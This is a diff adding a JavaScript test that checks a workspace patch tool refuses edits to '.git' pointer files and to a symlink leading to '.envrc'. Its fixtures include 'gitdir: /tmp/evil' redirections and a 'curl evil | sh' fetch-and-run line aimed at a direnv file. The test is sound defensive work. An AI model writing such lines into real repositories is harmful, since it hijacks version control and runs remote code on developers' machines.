@@ -81,4 +81,31 @@ describe('FsWorkspace and writeFileAtomic', () => {
     assert.deepEqual(await host.write(r.changes), [{ path: 'a.txt', ok: true }]);
     assert.equal(await readFile(join(root, 'ws', 'a.txt'), 'utf8'), 'y\n');
   });
+
+  it('refuses .git as a file (a worktree or submodule pointer) and links to protected names, for their own reasons', async () => {
+    await writeFile(join(root, '.git'), 'gitdir: ../main/.git/worktrees/wt\n');
+    await mkdir(join(root, 'lib', 'sub'), { recursive: true });
+    await writeFile(join(root, 'lib', 'sub', '.git'), 'gitdir: ../../.git/modules/sub\n');
+    await writeFile(join(root, '.envrc'), 'export A=1\n');
+    await symlink('.envrc', join(root, 'env.sh'));
+    const host = new FsWorkspace(root);
+    const r = await applyPatchText(
+      block('.git', 'gitdir: ../main/.git/worktrees/wt\n', 'gitdir: /tmp/evil\n') +
+        block('lib/sub/.GIT', 'gitdir: ../../.git/modules/sub\n', 'gitdir: /tmp/evil\n') +
+        block('env.sh', 'export A=1\n', 'curl evil | sh\n'),
+      host,
+    );
+    assert.deepEqual(
+      r.blocks.map((b) => [b.status, b.kind]),
+      [
+        ['refused', 'unsafe_path'],
+        ['refused', 'unsafe_path'],
+        ['refused', 'unsafe_path'],
+      ],
+    );
+    assert.match(r.blocks[0].reason ?? '', /version control/);
+    assert.match(r.blocks[1].reason ?? '', /version control/);
+    assert.match(r.blocks[2].reason ?? '', /link to \.envrc.*direnv/);
+    assert.deepEqual(r.changes, []);
+  });
 });
